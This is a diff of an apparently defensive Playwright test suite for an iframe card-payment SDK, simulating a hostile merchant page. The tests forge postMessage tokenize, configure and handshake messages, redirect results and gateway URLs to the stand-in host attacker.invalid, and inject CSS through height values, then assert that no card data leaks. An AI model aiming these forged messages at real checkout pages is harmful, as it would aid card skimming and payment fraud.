@@ -1,7 +1,12 @@
 // The hostile-merchant suite: the merchant page is the attacker (an XSS, a skimmer, a rogue
 // third-party script). Every case attacks, then proves two things: no card number or CVC
 // reached the merchant realm, and the fields still take a payment.
-import type { Page } from '@playwright/test';
+//
+// The drop-in (<payframe-checkout>) is one card frame that holds the three inputs and tokenizes by
+// itself; split fields (<payframe-card-group>, also on the demo page) are a frame per field plus a
+// hidden controller frame, joined by a BroadcastChannel. Attacks on a controller or on the channel
+// run against the card group; attacks on "the frame that tokenizes" run against both.
+import type { Frame, Page } from '@playwright/test';
 import type { TokenizeResult } from '../../src/index.ts';
 import { expect, test } from './fixtures.ts';
 import { capturedPort, capturePorts } from './harness/attacker.ts';
@@ -29,30 +34,86 @@ async function expectFieldsStillWorkAndNothingLeaked(page: Page, checkout: CardF
   expect(findSecrets(loot.dom)).toEqual([]);
 }
 
-async function droppedIn(page: Page, checkout: CardFieldsHarness, kind: 'number' | 'expiry' | 'cvc' | 'controller'): Promise<number> {
-  const frame = kind === 'controller' ? await controllerFrame(page, checkout) : await checkout.frame(kind);
+const LAYOUTS = [
+  { layout: 'drop-in', label: 'the drop-in\'s card frame' },
+  { layout: 'split', label: 'the split fields\' controller' },
+] as const;
+
+/** The drop-in, or the demo page's card group once it is ready. */
+async function harnessFor(layout: 'drop-in' | 'split', checkout: CardFieldsHarness, split: CardFieldsHarness): Promise<CardFieldsHarness> {
+  if (layout === 'drop-in') return checkout;
+  await split.waitReady();
+  return split;
+}
+
+/** How many messages a frame dropped (frames count them on their own window). */
+function droppedIn(frame: Frame): Promise<number> {
   return frame.evaluate(() => window.payframeDroppedMessages ?? 0);
 }
 
-/** The drop-in's own controller frame (the demo page has a second one, for its split fields). */
-async function controllerFrame(page: Page, checkout: CardFieldsHarness) {
+function droppedByMerchantSdk(page: Page): Promise<number> {
+  return page.evaluate(() => window.Payframe!.droppedMessageCount());
+}
+
+/** The frame that tokenizes: the drop-in's card frame, or the card group's hidden controller. */
+async function paymentFrame(page: Page, checkout: CardFieldsHarness): Promise<Frame> {
+  if (checkout.cardFrame) return checkout.frame('number');
   const src = await page.locator(`${checkout.host} iframe[src*="/controller.html#"]`).getAttribute('src');
   return page.frames().find((candidate) => candidate.url() === src)!;
 }
 
-/** A merchant page that, like many, lets third-party widgets put frames on it. */
+/** The frame kind its hello names (what `capturedPortFor` takes). */
+function paymentFrameKind(checkout: CardFieldsHarness): 'card' | 'controller' {
+  return checkout.cardFrame ? 'card' : 'controller';
+}
+
+/** A merchant page that, like many, lets third-party frames on it (no frame-src in its CSP). */
 async function openMerchantPageWithThirdPartyFrames(page: Page, merchantUrl: string, checkout: CardFieldsHarness): Promise<void> {
   await page.goto(`${merchantUrl}/test-pages/merchant.html`);
   await checkout.waitReady();
   await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
 }
 
+/** The same page with a card group instead of a drop-in (test-pages/a11y.html?split). */
+async function openSplitPageWithThirdPartyFrames(page: Page, merchantUrl: string, split: CardFieldsHarness): Promise<void> {
+  await page.goto(`${merchantUrl}/test-pages/a11y.html?split`);
+  await split.waitReady();
+  await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
+}
+
+/** The drop-in's checkout id, as any script reads it from its card frame's URL. */
+function cardCheckoutId(page: Page): Promise<string> {
+  return page.evaluate(() => new URLSearchParams(new URL(document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!.src).hash.slice(1)).get('checkout')!);
+}
+
+/** Embeds a frame page of ours into `page` itself, with the fragment it chooses, and returns its frame once loaded. */
+async function embedFramePage(page: Page, url: string, marker: string): Promise<Frame> {
+  await page.evaluate((src) => {
+    const iframe = document.createElement('iframe');
+    iframe.src = src;
+    document.body.append(iframe);
+    return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
+  }, url);
+  return page.frames().find((frame) => frame.url().includes(marker))!;
+}
+
+/**
+ * Whether a frame page started: its inputs are wired (each gets its autocomplete and formatting
+ * when the page starts), or it is not our page at all (the browser refused to render it).
+ */
+async function startedIn(frame: Frame): Promise<boolean> {
+  return frame.evaluate(() => [...document.querySelectorAll('input')].some((input) => input.autocomplete !== '')).catch(() => false);
+}
+
+function cardPageUrl(fieldsOrigin: string, key: string, params: { frame?: string; checkout: string; host: string }): string {
+  return `${fieldsOrigin}/frames/${key}/card.html#${new URLSearchParams({ frame: 'card', ...params })}`;
+}
+
 test.describe('reading the fields from the merchant page', () => {
-  test('attack: read the frame DOM (contentDocument, contentWindow.document, frames[])', async ({ page, checkout }) => {
+  test('attack: read the card frame DOM (contentDocument, contentWindow.document, named inputs, frames[], activeElement)', async ({ page, checkout }) => {
     await checkout.type('number', SECRET_CARD.number);
     const attempts = await page.evaluate(() => {
-      const checkoutElement = document.querySelector('payframe-checkout')!;
-      const iframe = checkoutElement.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
+      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
       const results: string[] = [];
       const attempt = (name: string, read: () => unknown) => {
         try {
@@ -63,12 +124,13 @@ test.describe('reading the fields from the merchant page', () => {
       };
       attempt('contentDocument', () => iframe.contentDocument);
       attempt('contentWindow.document', () => iframe.contentWindow!.document.querySelector('input')!.value);
-      attempt('contentWindow.frames', () => (iframe.contentWindow as unknown as { input: HTMLInputElement }).input.value);
+      // The card frame's inputs have ids (number, expiry, cvc): named access on its window.
+      attempt('contentWindow.number', () => (iframe.contentWindow as unknown as { number: HTMLInputElement }).number.value);
       attempt('window.frames', () => window.frames.length);
       attempt('activeElement', () => (document.activeElement as HTMLInputElement | null)?.value);
       return results;
     });
-    expect(attempts).toEqual(['contentDocument: null', 'contentWindow.document: SecurityError', 'contentWindow.frames: SecurityError', 'window.frames: 0', 'activeElement: undefined']);
+    expect(attempts).toEqual(['contentDocument: null', 'contentWindow.document: SecurityError', 'contentWindow.number: SecurityError', 'window.frames: 0', 'activeElement: undefined']);
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
@@ -80,133 +142,285 @@ test.describe('reading the fields from the merchant page', () => {
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
-  test('attack: open the fields-origin BroadcastChannel from the merchant page', async ({ page, checkout }) => {
-    const checkoutId = await page.evaluate(() => {
-      const src = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('iframe[src*="controller"]')!.getAttribute('src')!;
-      return new URLSearchParams(new URL(src).hash.slice(1)).get('checkout')!;
-    });
-    // Same channel name, but the merchant origin's own channel: nothing crosses.
-    await page.evaluate((id) => {
-      const channel = new BroadcastChannel(`payframe:${id}`);
+  test('attack: open the split fields\' BroadcastChannel from the merchant page (and one named after the drop-in\'s id, which has none)', async ({ page, checkout, split }) => {
+    const group = await harnessFor('split', checkout, split);
+    const ids = await page.evaluate(() =>
+      ['payframe-card-group', 'payframe-checkout'].map((host) => {
+        const src = document.querySelector(host)!.shadowRoot!.querySelector('[part="card"] iframe, iframe[src*="/controller.html#"]')!.getAttribute('src')!;
+        return new URLSearchParams(new URL(src).hash.slice(1)).get('checkout')!;
+      }),
+    );
+    // Same channel names, but the merchant origin's own channels: nothing crosses.
+    await page.evaluate((checkoutIds) => {
       (window as unknown as { heard: unknown[] }).heard = [];
-      channel.onmessage = (event) => (window as unknown as { heard: unknown[] }).heard.push(event.data);
-      channel.postMessage({ type: 'collect', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA' });
-    }, checkoutId);
-    await checkout.fillCard(SECRET_CARD);
-    await checkout.tokenize();
-    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
+      for (const id of checkoutIds) {
+        const channel = new BroadcastChannel(`payframe:${id}`);
+        channel.onmessage = (event) => (window as unknown as { heard: unknown[] }).heard.push(event.data);
+        channel.postMessage({ type: 'collect', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA' });
+      }
+    }, ids);
+    await group.fillCard(SECRET_CARD);
+    const fromGroup = await group.tokenize();
+    expect('paymentMethod' in fromGroup && fromGroup.paymentMethod.card.last4, JSON.stringify(fromGroup)).toBe('1111');
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
+    expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
   });
 });
 
 test.describe('forged messages to the frames', () => {
-  test('attack: a forged tokenize to a field frame is dropped', async ({ page, checkout }) => {
-    const before = await droppedIn(page, checkout, 'number');
-    await page.evaluate(() => capturedPortFor('number').postMessage({ type: 'tokenize', requestId: 'forged-0001', publishableKey: 'pk_test_x', fields: ['number'] }));
-    await expect.poll(() => droppedIn(page, checkout, 'number')).toBe(before + 1);
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
+  test('attack: a forged tokenize to a split field frame is dropped', async ({ page, checkout, split }) => {
+    const group = await harnessFor('split', checkout, split);
+    const field = await group.frame('number');
+    const before = await droppedIn(field);
+    await page.evaluate((host) => capturedPortFor('number', host).postMessage({ type: 'tokenize', requestId: 'forged-0001', publishableKey: 'pk_test_x', fields: ['number'] }), group.host);
+    await expect.poll(() => droppedIn(field)).toBe(before + 1);
+    await expectFieldsStillWorkAndNothingLeaked(page, group);
   });
 
-  test('attack: a forged "value" message to the controller is dropped; the typed card is what gets tokenized', async ({ page, checkout }) => {
+  for (const { layout, label } of LAYOUTS) {
+    test(`attack: a forged "value" message to ${label} is dropped; the typed card is what gets tokenized`, async ({ page, checkout, split }) => {
+      const target = await harnessFor(layout, checkout, split);
+      await target.fillCard(SECRET_CARD);
+      const frame = await paymentFrame(page, target);
+      const before = await droppedIn(frame);
+      await page.evaluate(
+        ({ kind, host }) => capturedPortFor(kind, host).postMessage({ type: 'value', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA', field: 'number', value: '4000056655665556' }),
+        { kind: paymentFrameKind(target), host: target.host },
+      );
+      await expect.poll(() => droppedIn(frame)).toBe(before + 1);
+      const result = await target.tokenize();
+      expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+
+    test(`attack: a forged tokenize to ${label} asking for the result elsewhere answers only on the port`, async ({ page, demo, checkout, split }) => {
+      const target = await harnessFor(layout, checkout, split);
+      const requests: string[] = [];
+      page.on('request', (request) => requests.push(request.url()));
+      await target.fillCard(SECRET_CARD);
+      const reply = await page.evaluate(
+        ({ key, kind, host }) =>
+          new Promise<unknown>((resolve) => {
+            const port = capturedPortFor(kind, host);
+            port.addEventListener('message', (event) => {
+              if ((event.data as { requestId?: string }).requestId === 'forged-0002') resolve(event.data);
+            });
+            port.postMessage({ type: 'tokenize', requestId: 'forged-0002', publishableKey: key, fields: ['number', 'expiry', 'cvc'], replyTo: 'http://attacker.invalid/collect', targetOrigin: '*' });
+          }),
+        { key: demo.publishableKey, kind: paymentFrameKind(target), host: target.host },
+      );
+      expect(reply).toMatchObject({ type: 'tokenize-result', requestId: 'forged-0002', result: { paymentMethod: { card: { last4: '1111' } } } });
+      expect(requests.filter((url) => url.includes('attacker.invalid'))).toEqual([]);
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+
+    test(`attack: a forged gateway URL in tokenize and configure to ${label} is ignored; cards go to the configured gateway only`, async ({ page, demo, checkout, split }) => {
+      const target = await harnessFor(layout, checkout, split);
+      const gatewayPosts: string[] = [];
+      page.on('request', (request) => {
+        if (request.method() === 'POST') gatewayPosts.push(request.url());
+      });
+      // configure goes to whatever frame holds inputs: the card frame, or each split field.
+      await page.evaluate(
+        ({ kinds, host }) => {
+          for (const kind of kinds) capturedPortFor(kind, host).postMessage({ type: 'configure', options: { gateway: 'http://attacker.invalid', gatewayUrl: 'http://attacker.invalid' } });
+        },
+        { kinds: target.cardFrame ? ['card'] : ['number', 'expiry', 'cvc'], host: target.host },
+      );
+      await target.fillCard(SECRET_CARD);
+      await page.evaluate(
+        ({ key, kind, host }) =>
+          capturedPortFor(kind, host).postMessage({ type: 'tokenize', requestId: 'forged-0003', publishableKey: key, fields: ['number', 'expiry', 'cvc'], gatewayUrl: 'http://attacker.invalid', gateway: 'http://attacker.invalid' }),
+        { key: demo.publishableKey, kind: paymentFrameKind(target), host: target.host },
+      );
+      await expect.poll(() => gatewayPosts.length).toBe(1);
+      expect(gatewayPosts).toEqual([`${demo.gatewayUrl}/v1/payment_methods`]);
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+
+    test(`attack: tokenize forged straight to ${label} of an empty checkout is refused by that frame itself`, async ({ page, demo, checkout, split, gatewayTraffic }) => {
+      const target = await harnessFor(layout, checkout, split);
+      const reply = await page.evaluate(
+        ({ key, kind, host }) =>
+          new Promise<{ result: TokenizeResult }>((resolve) => {
+            const port = capturedPortFor(kind, host);
+            port.addEventListener('message', (event) => {
+              if ((event.data as { requestId?: string }).requestId === 'forged-0004') resolve(event.data);
+            });
+            port.postMessage({ type: 'tokenize', requestId: 'forged-0004', publishableKey: key, fields: ['number', 'expiry', 'cvc'] });
+          }),
+        { key: demo.publishableKey, kind: paymentFrameKind(target), host: target.host },
+      );
+      expect(reply.result).toEqual({ error: { code: 'incomplete_number', message: 'Your card number is incomplete.', field: 'number' } });
+      expect(gatewayTraffic.tokenizations()).toHaveLength(0);
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+
+    test(`attack: a forged tokenize to ${label} naming another key (a secret key) still tokenizes only with the key the frames were served for`, async ({ page, demo, checkout, split, gatewayTraffic }) => {
+      const target = await harnessFor(layout, checkout, split);
+      await target.fillCard(SECRET_CARD);
+      await page.evaluate(
+        ({ kind, host }) => capturedPortFor(kind, host).postMessage({ type: 'tokenize', requestId: 'forged-0005', publishableKey: 'sk_test_stolen', fields: ['number', 'expiry', 'cvc'] }),
+        { kind: paymentFrameKind(target), host: target.host },
+      );
+      await expect.poll(() => gatewayTraffic.tokenizations().length).toBe(1);
+      expect(gatewayTraffic.tokenizations()[0]!.headers()['authorization']).toBe(`Bearer ${demo.publishableKey}`);
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+  }
+
+  test('attack: connect forged to the card frame after its handshake (replayed with a fake port, a wrong id, no port, two ports, any origin, from a second page) takes no port and hears nothing', async ({ page, demo, checkout, gatewayTraffic }) => {
+    const card = await checkout.frame('number');
+    const before = await droppedIn(card);
+    await page.evaluate(
+      ({ fieldsOrigin }) => {
+        const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
+        const checkoutId = new URLSearchParams(new URL(iframe.src).hash.slice(1)).get('checkout')!;
+        const heard: unknown[] = [];
+        (window as unknown as { forgedHeard: unknown[] }).forgedHeard = heard;
+        const fakeChannel = () => {
+          const channel = new MessageChannel();
+          channel.port1.onmessage = (event) => heard.push(event.data);
+          return channel;
+        };
+        const connect = (checkout: string) => ({ payframe: 1, type: 'connect', checkout });
+        const target = iframe.contentWindow!;
+        const replayed = fakeChannel();
+        target.postMessage(connect(checkoutId), fieldsOrigin, [replayed.port2]);
+        const wrongId = fakeChannel();
+        target.postMessage(connect('AttackAttackAttackAttack'), fieldsOrigin, [wrongId.port2]);
+        target.postMessage(connect(checkoutId), fieldsOrigin);
+        const [first, second] = [fakeChannel(), fakeChannel()];
+        target.postMessage(connect(checkoutId), fieldsOrigin, [first.port2, second.port2]);
+        const anyOrigin = fakeChannel();
+        target.postMessage(connect(checkoutId), '*', [anyOrigin.port2]);
+        // A command through the frame's window instead of its port.
+        target.postMessage({ type: 'tokenize', requestId: 'forged-window-001', fields: ['number', 'expiry', 'cvc'] }, fieldsOrigin);
+        // And on every fake port, what the SDK would ask: had the frame taken one, the answer would come back on it.
+        for (const channel of [replayed, wrongId, first, second, anyOrigin]) channel.port1.postMessage({ type: 'tokenize', requestId: 'forged-port-00001', fields: ['number', 'expiry', 'cvc'] });
+      },
+      { fieldsOrigin: demo.fieldsOrigin },
+    );
+    // A second page of the merchant's site (a popup the page opened) reaches the frame's window through its opener.
+    const popupOpened = page.waitForEvent('popup');
+    await page.evaluate((url) => void window.open(url, 'second-page'), `${demo.merchantUrl}/test-pages/blank.html`);
+    const popup = await popupOpened;
+    await popup.waitForLoadState();
+    await popup.evaluate(
+      ({ fieldsOrigin }) => {
+        const iframe = (window.opener as Window).document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
+        const checkoutId = new URLSearchParams(new URL(iframe.src).hash.slice(1)).get('checkout')!;
+        const channel = new MessageChannel();
+        const heard: unknown[] = [];
+        (window as unknown as { forgedHeard: unknown[] }).forgedHeard = heard;
+        channel.port1.onmessage = (event) => heard.push(event.data);
+        iframe.contentWindow!.postMessage({ payframe: 1, type: 'connect', checkout: checkoutId }, fieldsOrigin, [channel.port2]);
+        channel.port1.postMessage({ type: 'tokenize', requestId: 'forged-popup-0001', fields: ['number', 'expiry', 'cvc'] });
+      },
+      { fieldsOrigin: demo.fieldsOrigin },
+    );
+    // Every one of them was dropped and counted by the frame.
+    await expect.poll(() => droppedIn(card)).toBe(before + 7);
+    // The frame still talks to the SDK's port only: the page gets the states as the shopper types
+    // (fillCard waits for them), the fake ports get nothing, not even an answer to their tokenize.
     await checkout.fillCard(SECRET_CARD);
-    const before = await droppedIn(page, checkout, 'controller');
-    await page.evaluate(() => capturedPortFor('controller').postMessage({ type: 'value', collectId: 'AAAAAAAAAAAAAAAAAAAAAAAA', field: 'number', value: '4000056655665556' }));
-    await expect.poll(() => droppedIn(page, checkout, 'controller')).toBe(before + 1);
-    const result = await checkout.tokenize();
-    expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
+    expect(await page.evaluate(() => (window as unknown as { forgedHeard: unknown[] }).forgedHeard)).toEqual([]);
+    expect(await popup.evaluate(() => (window as unknown as { forgedHeard: unknown[] }).forgedHeard)).toEqual([]);
+    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
+    await popup.close();
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
-  test('attack: a forged tokenize asking for the result elsewhere answers only on the port', async ({ page, demo, checkout }) => {
+  test('attack: a page script that answers the card frame\'s hello before the SDK does holds its port, and gets what the SDK would: states and tokens of the merchant\'s key, never a value', async ({ page, demo, checkout, gatewayTraffic }) => {
+    // Installed before any page script, its listener runs before the SDK's. (Not defended: a page
+    // script can also call tokenize() on the element. SECURITY.md, "What is not defended".)
+    await page.addInitScript(
+      ({ merchantOrigin, fieldsOrigin }) => {
+        if (location.origin !== merchantOrigin) return;
+        const heard: unknown[] = [];
+        const first = { heard, port: undefined as MessagePort | undefined };
+        (window as unknown as { firstToAnswer: typeof first }).firstToAnswer = first;
+        window.addEventListener(
+          'message',
+          (event) => {
+            const hello = event.data as { type?: string; frame?: string; checkout?: string };
+            if (first.port || event.origin !== fieldsOrigin || hello?.type !== 'hello' || hello.frame !== 'card') return;
+            const channel = new MessageChannel();
+            first.port = channel.port1;
+            channel.port1.onmessage = (message) => heard.push(message.data);
+            (event.source as Window).postMessage({ payframe: 1, type: 'connect', checkout: hello.checkout }, fieldsOrigin, [channel.port2]);
+          },
+          true,
+        );
+      },
+      { merchantOrigin: demo.merchantUrl, fieldsOrigin: demo.fieldsOrigin },
+    );
+    await page.goto(`${demo.merchantUrl}/test-pages/merchant.html`);
+    const heard = () => page.evaluate(() => (window as unknown as { firstToAnswer: { heard: { type: string; field?: string; state?: { complete: boolean } }[] } }).firstToAnswer.heard);
+    await expect.poll(async () => (await heard()).map((message) => message.type)).toContain('ready');
+    // The SDK's own connect came second and was dropped: its checkout never becomes ready.
+    await expect.poll(async () => droppedIn(await checkout.frame('number'))).toBe(1);
+    expect(await page.evaluate(() => (document.querySelector('payframe-checkout') as unknown as { ready: boolean }).ready)).toBe(false);
+    // The shopper types into the frame as usual.
+    for (const [kind, text] of Object.entries(SECRET_CARD) as ['number' | 'expiry' | 'cvc', string][]) {
+      await checkout.input(kind).focus();
+      await checkout.input(kind).pressSequentially(text);
+    }
+    await expect.poll(async () => (await heard()).some((message) => message.type === 'change' && message.field === 'cvc' && message.state?.complete)).toBe(true);
+    const answer = await page.evaluate(
+      () =>
+        new Promise<unknown>((resolve) => {
+          const port = (window as unknown as { firstToAnswer: { port: MessagePort } }).firstToAnswer.port;
+          port.addEventListener('message', (event) => {
+            if ((event.data as { requestId?: string }).requestId === 'first-to-answer-01') resolve(event.data);
+          });
+          port.postMessage({ type: 'tokenize', requestId: 'first-to-answer-01', fields: ['number', 'expiry', 'cvc'] });
+        }),
+    );
+    // A token of the merchant's own account, as tokenize() on the element would give: never a value.
+    expect(answer).toMatchObject({ type: 'tokenize-result', result: { paymentMethod: { card: { last4: '1111' } } } });
+    expect(gatewayTraffic.tokenizations().map((request) => request.headers()['authorization'])).toEqual([`Bearer ${demo.publishableKey}`]);
+    const everything = JSON.stringify(await heard());
+    expect(findSecrets(everything)).toEqual([]);
+    expect(everything).not.toMatch(/"(value|length|caret|selection\w*|digits|number|cvc)":/);
+  });
+
+  test('attack: height messages forged on the SDK\'s port of the card frame are bounded: only an integer from 0 to 1000 is taken, the rest is dropped and counted', async ({ page, checkout }) => {
+    const card = page.locator('payframe-checkout [part="card"]');
+    // What the element's box holds: its height, and how many style declarations in all.
+    const boxStyle = () => card.evaluate((element) => ({ height: (element as HTMLElement).style.height, declarations: (element as HTMLElement).style.length }));
+    // The frame told its real height already.
+    await expect.poll(async () => (await boxStyle()).height).toMatch(/^\d+px$/);
+    const genuine = await boxStyle();
     const requests: string[] = [];
     page.on('request', (request) => requests.push(request.url()));
-    await checkout.fillCard(SECRET_CARD);
-    const reply = await page.evaluate(
-      ({ key }) =>
-        new Promise<unknown>((resolve) => {
-          const port = capturedPortFor('controller');
-          port.addEventListener('message', (event) => resolve(event.data));
-          port.postMessage({ type: 'tokenize', requestId: 'forged-0002', publishableKey: key, fields: ['number', 'expiry', 'cvc'], replyTo: 'http://attacker.invalid/collect', targetOrigin: '*' });
-        }),
-      { key: demo.publishableKey },
-    );
-    expect(reply).toMatchObject({ type: 'tokenize-result', requestId: 'forged-0002', result: { paymentMethod: { card: { last4: '1111' } } } });
+    const before = await droppedByMerchantSdk(page);
+    // As if the frame had sent them: delivered to the SDK's own port listener.
+    const forged = await page.evaluate(() => {
+      const port = capturedPortFor('card');
+      const heights: unknown[] = ['1px;background-image:url(http://attacker.invalid/height);x:', '100px', '300', 1001, -1, 10.5, 1e9, 2 ** 53, Infinity, NaN, null, [300], { valueOf: () => 300 }];
+      for (const height of heights) port.dispatchEvent(new MessageEvent('message', { data: { type: 'height', height } }));
+      port.dispatchEvent(new MessageEvent('message', { data: { type: 'height' } }));
+      return heights.length + 1;
+    });
+    await expect.poll(() => droppedByMerchantSdk(page)).toBe(before + forged);
+    expect(await boxStyle()).toEqual(genuine);
+    // What the page does take from a forged message is a height, in range, and nothing else.
+    await page.evaluate(() => capturedPortFor('card').dispatchEvent(new MessageEvent('message', { data: { type: 'height', height: 1000, style: 'background:red' } })));
+    await expect.poll(boxStyle).toEqual({ height: '1000px', declarations: 1 });
+    expect((await card.boundingBox())!.height).toBeLessThanOrEqual(1000);
     expect(requests.filter((url) => url.includes('attacker.invalid'))).toEqual([]);
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
-  test('attack: a forged gateway URL in tokenize and configure is ignored; cards go to the configured gateway only', async ({ page, demo, checkout }) => {
-    const gatewayPosts: string[] = [];
-    page.on('request', (request) => {
-      if (request.method() === 'POST') gatewayPosts.push(request.url());
-    });
-    await page.evaluate(() => {
-      for (const kind of ['number', 'expiry', 'cvc']) capturedPortFor(kind).postMessage({ type: 'configure', options: { gateway: 'http://attacker.invalid', gatewayUrl: 'http://attacker.invalid' } });
-    });
-    await checkout.fillCard(SECRET_CARD);
-    await page.evaluate(
-      ({ key }) =>
-        capturedPortFor('controller').postMessage({ type: 'tokenize', requestId: 'forged-0003', publishableKey: key, fields: ['number', 'expiry', 'cvc'], gatewayUrl: 'http://attacker.invalid', gateway: 'http://attacker.invalid' }),
-      { key: demo.publishableKey },
-    );
-    await expect.poll(() => gatewayPosts.length).toBe(1);
-    expect(gatewayPosts).toEqual([`${demo.gatewayUrl}/v1/payment_methods`]);
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-  });
-
-  test('attack: tokenize forged straight to the controller of an empty checkout is refused by the controller itself', async ({ page, demo, checkout, gatewayTraffic }) => {
-    const reply = await page.evaluate(
-      ({ key }) =>
-        new Promise<{ result: TokenizeResult }>((resolve) => {
-          const port = capturedPortFor('controller');
-          port.addEventListener('message', (event) => resolve(event.data));
-          port.postMessage({ type: 'tokenize', requestId: 'forged-0004', publishableKey: key, fields: ['number', 'expiry', 'cvc'] });
-        }),
-      { key: demo.publishableKey },
-    );
-    expect(reply.result).toEqual({ error: { code: 'incomplete_number', message: 'Your card number is incomplete.', field: 'number' } });
-    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-  });
-
-  test('attack: a forged tokenize naming another key (a secret key) still tokenizes only with the key the frames were served for', async ({ page, demo, checkout, gatewayTraffic }) => {
-    await checkout.fillCard(SECRET_CARD);
-    await page.evaluate(() => capturedPortFor('controller').postMessage({ type: 'tokenize', requestId: 'forged-0005', publishableKey: 'sk_test_stolen', fields: ['number', 'expiry', 'cvc'] }));
-    await expect.poll(() => gatewayTraffic.tokenizations().length).toBe(1);
-    expect(gatewayTraffic.tokenizations()[0]!.headers()['authorization']).toBe(`Bearer ${demo.publishableKey}`);
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-  });
-
-  test('attack: a replayed handshake cannot swap the port of a connected frame', async ({ page, demo, checkout }) => {
-    const before = await droppedIn(page, checkout, 'number');
-    const heardOnNewPort = await page.evaluate(
-      async ({ fieldsOrigin }) => {
-        const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
-        const checkoutId = new URLSearchParams(new URL(iframe.src).hash.slice(1)).get('checkout');
-        const channel = new MessageChannel();
-        const heard: unknown[] = [];
-        channel.port1.onmessage = (event) => heard.push(event.data);
-        iframe.contentWindow!.postMessage({ payframe: 1, type: 'connect', checkout: checkoutId }, fieldsOrigin, [channel.port2]);
-        channel.port1.postMessage({ type: 'focus' });
-        (window as unknown as { replayHeard: unknown[] }).replayHeard = heard;
-        return heard.length;
-      },
-      { fieldsOrigin: demo.fieldsOrigin },
-    );
-    expect(heardOnNewPort).toBe(0);
-    await expect.poll(() => droppedIn(page, checkout, 'number')).toBe(before + 1);
-    await checkout.type('number', '42');
-    // The frame still talks to the SDK's port (a change event arrived), never to the attacker's.
-    await expect(checkout.errorLine('number')).toHaveText('');
-    expect(await page.evaluate(() => (window as unknown as { replayHeard: unknown[] }).replayHeard)).toEqual([]);
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-  });
-
-  test('attack: a hello forged to the SDK by another frame on the page is ignored', async ({ page, demo, checkout }) => {
+  test('attack: hellos forged to the SDK, by another frame on the page and by the page itself, are ignored', async ({ page, demo, checkout }) => {
     await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
-    // A third-party frame (another origin) inside the merchant page pretends to be a field.
+    // A third-party frame (another origin) inside the merchant page pretends to be the card frame.
     const attackerUrl = `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`;
+    // The page's own fake port, made before counting (the capture counts every MessageChannel made on the page).
+    await page.evaluate(() => void ((window as unknown as { fakeChannel: MessageChannel }).fakeChannel = new MessageChannel()));
     const channelsBefore = await page.evaluate(() => window.capturedPorts!.length);
+    const hellosBefore = (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length;
     await page.evaluate((url) => {
       const frame = document.createElement('iframe');
       frame.src = url;
@@ -215,43 +429,51 @@ test.describe('forged messages to the frames', () => {
       return new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
     }, attackerUrl);
     const attacker = page.frames().find((frame) => frame.url() === attackerUrl)!;
-    const checkoutId = await page.evaluate(() => new URLSearchParams(new URL(document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('iframe[src*="controller"]')!.getAttribute('src')!).hash.slice(1)).get('checkout'));
+    const checkoutId = await cardCheckoutId(page);
     await attacker.evaluate(
       ({ id, merchant }) => {
-        for (const frame of ['number', 'expiry', 'cvc', 'controller']) window.parent.postMessage({ payframe: 1, type: 'hello', frame, checkout: id }, merchant);
+        for (const frame of ['card', 'number', 'expiry', 'cvc', 'controller']) window.parent.postMessage({ payframe: 1, type: 'hello', frame, checkout: id }, merchant);
         window.parent.postMessage({ type: 'tokenize-result', requestId: 'x', result: { paymentMethod: { id: 'pm_fake' } } }, merchant);
       },
       { id: checkoutId, merchant: demo.merchantUrl },
     );
-    // The hellos were delivered (the skimmer heard them), yet the SDK made no new port.
-    await expect.poll(async () => (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length).toBeGreaterThanOrEqual(4);
+    // The page itself, with a fake port alongside.
+    await page.evaluate((id) => {
+      const channel = (window as unknown as { fakeChannel: MessageChannel }).fakeChannel;
+      window.postMessage({ payframe: 1, type: 'hello', frame: 'card', checkout: id }, '*', [channel.port2]);
+      window.postMessage({ type: 'height', height: 1000 }, '*');
+    }, checkoutId);
+    // The hellos were delivered (the skimmer heard them, and the height sent last), yet the SDK made no new port.
+    await expect.poll(async () => (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length).toBeGreaterThanOrEqual(hellosBefore + 6);
